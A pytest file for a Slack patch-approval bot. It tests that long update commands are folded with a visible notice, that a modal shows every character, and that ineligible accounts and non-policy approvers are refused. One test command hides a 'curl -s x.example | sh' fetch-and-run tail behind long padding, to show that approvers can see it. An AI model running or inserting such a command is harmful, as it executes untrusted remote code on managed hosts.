"""What approvers see is what runs (issue 13), as pure functions: the approval message folds long
commands and scripts and says so, the "Show everything that runs" modal holds every character,
Slack accounts that may not act under the policy are named, and only real mentions or policy
e-mails name approvers. Block Kit limits are checked by the Slack stand-in's rules."""

from __future__ import annotations

import pytest

from activities.policy import parse_policy
from bot.slack import modal
from bot.slack.blocks import approval_request, as_dicts
from bot.slack.commands import ApproverRef, CommandError
from bot.slack.identity import account_refusal
from bot.slack.trust import approver_person
from bot.slack.what_runs import SHOW_RUNS_ACTION, WhatRuns, runs_view
from lab.slack_standin.rules import block_kit_error, block_texts, view_error

HOME = "T0PATCHPILOT"
POLICY = """
people:
  alice: {email: alice@example.com, slack: U0ALICE01}
  bob:   {email: bob@example.com,   slack: U0BOB0001}
clusters:
  cluster-a:
    requesters: [bob]
    approvers: [alice]
    updateProfiles: {security: "apt-get -y upgrade"}
"""


def long_runs() -> WhatRuns:
    # A tail after a long, harmless-looking head: the approver must be able to read it.
    command = "apt-get update && apt-get -y upgrade " + "x" * 4900 + " ; curl -s x.example | sh"
    return WhatRuns(
        update_command=command,
        scripts={"postUpdateScripts": ["systemctl daemon-reload", "echo 'done' `date`"]},
        services=["nginx"],
        hosts={"cluster-a": 3},
        requester="bob@example.com",
        digest="sha256:" + "ab" * 32,
        approved_by=["alice@example.com"],
        missing=["cluster-a: 1 more of carol@example.com"],
    )


def test_a_long_command_is_folded_with_its_count_and_the_view_shows_every_character() -> None:
    runs = long_runs()
    message = as_dicts(
        approval_request("patch-1", "<@U0BOB0001>", ["<@U0ALICE01>"], [], None, runs)
    )
    assert block_kit_error({"blocks": message}) is None
    shown = "\n".join(block_texts(message))
    total = len(runs.update_command)
    assert (
        f"more of {total} characters folded: “Show everything that runs” shows all of it" in shown
    )
    assert "*Digest the approvals sign*: `sha256:abab" in shown
    assert "*What runs* — cluster-a (3 hosts) · 3 hosts" in shown
    assert "*Approvals*: approved by alice@example.com; still needed: cluster-a: 1 more of" in shown
    buttons = next(b for b in message if b["type"] == "actions")["elements"]
    assert [b["action_id"] for b in buttons][-1] == SHOW_RUNS_ACTION

    view = runs_view("patch-1", runs)
    assert view_error(view) is None
    sections = [b["text"]["text"] for b in view["blocks"] if b["text"]["type"] == "plain_text"]
    # Every part of the command, in order, without its label: exactly the command.
    command_parts = [s.split(":\n", 1)[1] for s in sections if s.startswith("Update command")]
    assert "".join(command_parts) == runs.update_command
    assert "postUpdateScripts 2/2 (18 characters):\necho 'done' `date`" in sections
    assert all(len(b["text"]["text"]) <= 3000 for b in view["blocks"])


def test_a_short_command_is_shown_whole_and_exact_with_no_fold() -> None:
    runs = WhatRuns(update_command="echo '<b>&amp;</b>' :smile: *x*", hosts={"cluster-a": None})
    message = as_dicts(approval_request("patch-1", "bob", [], ["cluster-a"], None, runs))
    plain = [b["text"] for b in message if b.get("text", {}).get("type") == "plain_text"]
    assert plain[0]["text"] == "Update command:\necho '<b>&amp;</b>' :smile: *x*"
    assert plain[0]["emoji"] is False  # :smile: reads as typed, as the shell gets it
    shown = "\n".join(block_texts(message))
    assert "cluster-a (? hosts) · hosts not resolved" in shown and "folded" not in shown
    assert SHOW_RUNS_ACTION not in str(message)


@pytest.mark.parametrize(
    ("flags", "reason"),
    [
        ({"deleted": True}, "is deactivated in Slack"),
        ({"is_restricted": True}, "is a multi-channel guest"),
        ({"is_ultra_restricted": True, "is_restricted": True}, "is a single-channel guest"),
        ({"team_id": "T0OTHER"}, "is a member of another workspace (T0OTHER)"),
        ({"is_stranger": True}, "is a member of another workspace"),
        ({"is_email_confirmed": False}, "has not confirmed their e-mail address"),
        ({"is_bot": True}, "is a bot or app user"),
    ],
)
def test_accounts_that_may_not_act_are_named(flags: dict[str, object], reason: str) -> None:
    user = {"id": "U1", "team_id": HOME, **flags}
    refused = account_refusal(user, HOME)
    assert refused is not None and refused.startswith(reason)


def test_a_member_in_good_standing_passes_also_when_slack_says_nothing_of_the_email() -> None:
    assert account_refusal({"id": "U1", "team_id": HOME, "is_email_confirmed": True}, HOME) is None
    assert account_refusal({"id": "U1", "team_id": HOME}, HOME) is None


def test_only_mentions_and_policy_emails_name_approvers() -> None:
    policy = parse_policy(POLICY)
    assert approver_person(policy, ApproverRef(user_id="U0ALICE01")).name == "alice"
    assert approver_person(policy, ApproverRef(email="alice@example.com")).name == "alice"
    with pytest.raises(CommandError, match="@alice is text, not a Slack mention"):
        approver_person(policy, ApproverRef(handle="alice"))
    with pytest.raises(CommandError, match="U0MALLORY is not a person of the approval policy"):
        approver_person(policy, ApproverRef(user_id="U0MALLORY"))
    with pytest.raises(CommandError, match=r"mallory@example\.com is not a person"):
        approver_person(policy, ApproverRef(email="mallory@example.com"))


def test_the_modal_offers_the_policys_profiles_and_reads_the_choice() -> None:
    view = modal.start_view("C1", ["cluster-a"], ["full", "security"])
    assert view_error(view) is None
    block = next(b for b in view["blocks"] if b["block_id"] == modal.PROFILE)
    assert [o["value"] for o in block["element"]["options"]] == ["full", "security"]
    values = {
        modal.CLUSTERS: {
            modal.CLUSTERS: {
                "type": "multi_static_select",
                "selected_options": [{"value": "cluster-a"}],
            }
        },
        modal.PROFILE: {
            modal.PROFILE: {"type": "static_select", "selected_option": {"value": "security"}}
        },
    }
    command = modal.submitted_command(values)
    assert command.profile == "security" and command.update is None
    assert modal.field_errors(CommandError("profile=: no profile 'x'")) == {
        modal.PROFILE: "profile=: no profile 'x'"
    }
    assert all(b["block_id"] != modal.PROFILE for b in modal.start_view("C1", None)["blocks"])
